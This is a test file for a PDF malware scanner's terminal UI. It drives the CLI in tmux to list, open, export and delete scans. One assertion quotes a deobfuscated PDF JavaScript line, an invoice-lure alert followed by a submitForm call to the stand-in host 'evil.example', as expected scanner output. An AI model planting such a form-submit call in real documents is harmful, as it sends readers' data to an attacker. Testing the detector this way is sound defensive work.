// `pdfscan ui` driven as a person drives it: the built CLI in a real terminal (tmux, 120x40) against the
// real built server (npm run build first). Keys go in with send-keys, the screen comes back with
// capture-pane, polled until it shows what is expected or a deadline passes. Skipped, saying so, when
// tmux is missing (scripts/test-all.sh installs it).
import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ScanReport } from "../../lib/server/scans/report";
import { sortFindings } from "../../lib/cli/format-result";
import { benignPdf, obfuscatedScriptPdf } from "../fixtures/sample-pdfs";
import { authorizedFetch, startServer, type RunningServer } from "../support/next-server";
import { BIN, buildCli, jsonLines, pdfscan } from "./run-cli";

const HAS_TMUX = spawnSync("tmux", ["-V"]).status === 0;
if (!HAS_TMUX)
  console.warn("test/cli/ui.test.ts: skipped, tmux is not installed (apt-get install -y tmux; npm test installs it)");
const SESSION = "ui";
const SCREEN_TIMEOUT_MS = 20_000;
const POLL_MS = 100;

let server: RunningServer;
let dir: string;
let lure: { scanId: string; report: ScanReport };
let plainId: string;
/** a tmux server of this test's own (its socket in the test's temp dir), so it never touches a user's sessions */
let socket: string;

const tmux = (...args: string[]): string => execFileSync("tmux", ["-S", socket, ...args], { encoding: "utf8" });
/** the screen's text (with -e its styles too), or null once the session has ended */
function screen(withStyles = false): string | null {
  const run = spawnSync("tmux", ["-S", socket, "capture-pane", "-p", ...(withStyles ? ["-e"] : []), "-t", SESSION], {
    encoding: "utf8",
  });
  return run.status === 0 ? run.stdout : null;
}
const keys = (...names: string[]) => tmux("send-keys", "-t", SESSION, ...names);
const type = (text: string) => tmux("send-keys", "-t", SESSION, "-l", text);
const quote = (s: string) => `'${s.replaceAll("'", "'\\''")}'`;

/** polls the screen until `ok` holds; the failure shows the last screen and the UI's stderr */
async function waitFor(what: string, ok: (text: string) => boolean): Promise<string> {
  return (await waitForScreen(what, (text) => text !== null && ok(text))) ?? "";
}

/** polls until `ok` holds for the screen, null once the session has ended */
async function waitForScreen(what: string, ok: (text: string | null) => boolean): Promise<string | null> {
  const deadline = Date.now() + SCREEN_TIMEOUT_MS;
  let last: string | null = "";
  while (Date.now() < deadline) {
    last = screen();
    if (ok(last)) return last;
    await new Promise((r) => setTimeout(r, POLL_MS));
  }
  throw new Error(`the screen never showed ${what}\n--- screen ---\n${last}\n--- stderr ---\n${uiStderr()}`);
}

const uiStderr = () => (existsSync(join(dir, "ui.stderr")) ? readFileSync(join(dir, "ui.stderr"), "utf8") : "");
/** the list row that holds the selection marker */
const selectedRow = (text: string) => text.split("\n").find((line) => line.startsWith("> ")) ?? "";

async function submit(name: string, bytes: Uint8Array): Promise<string> {
  await writeFile(join(dir, name), bytes);
  const run = await pdfscan(["submit", "--wait", "--json", "--retention", "retain_24h", join(dir, name)], {
    env: { PDFSCAN_URL: server.url, PDFSCAN_API_KEY: server.apiKey, HOME: dir },
  });
  const [scan] = jsonLines(run.stdout) as { scanId: string; status: string }[];
  expect(scan?.status, run.stderr).toBe("completed");
  return scan.scanId;
}

describe.skipIf(!HAS_TMUX)("pdfscan ui in a terminal (tmux; skipped when tmux is not installed)", () => {
  beforeAll(async () => {
    buildCli();
    [server, dir] = await Promise.all([startServer(), mkdtemp(join(tmpdir(), "pdfscan-ui-"))]);
    socket = join(dir, "tmux.sock");
    plainId = await submit("plain.pdf", benignPdf());
    const lureId = await submit("lure.pdf", obfuscatedScriptPdf());
    lure = {
      scanId: lureId,
      report: (await (await authorizedFetch(`${server.url}/api/scans/${lureId}/report`)).json()) as ScanReport,
    };
    // NO_COLOR: the screen must carry no color at all (checked below). CI=true: as in a CI job, where
    // Ink would draw nothing until exit unless the command sets that variable aside
    const command = `CI=true NO_COLOR=1 PDFSCAN_API_KEY=${quote(server.apiKey ?? "")} ${quote(process.execPath)} ${quote(BIN)} ui --url ${quote(server.url)} 2> ${quote(join(dir, "ui.stderr"))}`;
    tmux("new-session", "-d", "-s", SESSION, "-x", "120", "-y", "40", "-c", dir, command);
  }, 120_000);

  afterAll(async () => {
    if (socket) spawnSync("tmux", ["-S", socket, "kill-server"]);
    await server?.stop();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it("lists the scans, opens one, exports it, deletes another after y, and quits", async () => {
    // the list, live from the server, without color
    await waitFor("both scans, completed", (s) => /lure\.pdf\s+completed/.test(s) && /plain\.pdf\s+completed/.test(s));
    expect(screen(true) ?? "").not.toMatch(/\x1b\[(?:3[0-8]|9[0-7]|4[0-8])[;m]/);

    // filter to the lure and open it
    keys("/");
    await waitFor("the filter prompt", (s) => s.includes("filter: "));
    type("lure");
    keys("Enter");
    await waitFor(
      "only the lure",
      (s) => s.includes("filter: lure") && s.includes("lure.pdf") && !s.includes("plain.pdf"),
    );
    keys("Enter");
    const { verdict, score } = lure.report.summary;
    const top = sortFindings(lure.report.findings)[0];
    const report = await waitFor("the lure's report", (s) =>
      s.includes(`${verdict.toUpperCase()}  score ${score}/100`),
    );
    expect(report).toContain(`Findings (${lure.report.findings.length})`);
    expect(report).toContain(`${top.title} (${top.ruleId})`);
    // the script and its deobfuscated layer are at the end
    keys("G");
    const end = await waitFor("the script's layer", (s) => s.includes("layer 1 of 1 (deobfuscated"));
    expect(end).toContain("#1 /Root/OpenAction");
    expect(end).toContain(`app.alert("Loading invoice"); this.submitForm({cURL: "hxxp://evil.example/collect"`);

    // export: JSON under the server's file name in the current directory, Markdown into a typed folder
    keys("e");
    await waitFor("the format chooser", (s) => s.includes("export as:"));
    keys("1");
    await waitFor("the export path", (s) => s.includes(`export json to: pdfscan-${lure.scanId}.json`));
    keys("Enter");
    await waitFor("the export done", (s) => s.includes(`wrote ${join(dir, `pdfscan-${lure.scanId}.json`)}`));
    const exported = JSON.parse(await readFile(join(dir, `pdfscan-${lure.scanId}.json`), "utf8")) as ScanReport;
    expect(exported.scanId).toBe(lure.scanId);
    expect(exported.summary).toEqual(lure.report.summary);
    await mkdir(join(dir, "reports"));
    keys("e", "2");
    await waitFor("the Markdown export path", (s) => s.includes("export md to: "));
    keys("C-u");
    type("reports");
    keys("Enter");
    await waitFor("the Markdown export done", (s) => s.includes("wrote ") && s.includes(".md ("));
    expect(await readFile(join(dir, "reports", `pdfscan-${lure.scanId}.md`), "utf8")).toMatch(
      /^# PDF scan report: lure\\\.pdf/,
    );

    // back to the list, filter dropped, and delete the plain scan with a confirmation
    keys("Escape");
    await waitFor("the filtered list", (s) => s.includes("VERDICT") && s.includes("filter: lure"));
    keys("Escape");
    await waitFor("both scans again", (s) => s.includes("plain.pdf") && !s.includes("filter:"));
    keys("j");
    await waitFor("plain.pdf selected", (s) => selectedRow(s).includes("plain.pdf"));
    keys("d");
    await waitFor("the delete question", (s) => s.includes("delete plain.pdf? y/n"));
    keys("y");
    const after = await waitFor("plain.pdf gone", (s) => s.includes(`deleted ${plainId}`) && !s.includes("plain.pdf"));
    expect(after).toContain("lure.pdf");
    expect((await authorizedFetch(`${server.url}/api/scans/${plainId}`)).status).toBe(404);

    keys("q");
    await waitForScreen("the session to end", (s) => s === null);
    // no error text (the cursor is shown again on stderr by Ink's cursor handling: an escape sequence)
    expect(uiStderr().replace(/\x1b\[[0-9;?]*[A-Za-z]/g, "")).toBe("");
  }, 120_000);

  it("refuses to start without a terminal, in one line", async () => {
    const run = await pdfscan(["ui", "--url", server.url]);
    expect(run.code).toBe(2);
    expect(run.stderr).toBe(
      "pdfscan: ui needs a terminal (stdin and stdout); in scripts use pdfscan scans, report or submit\n",
    );
  });
});
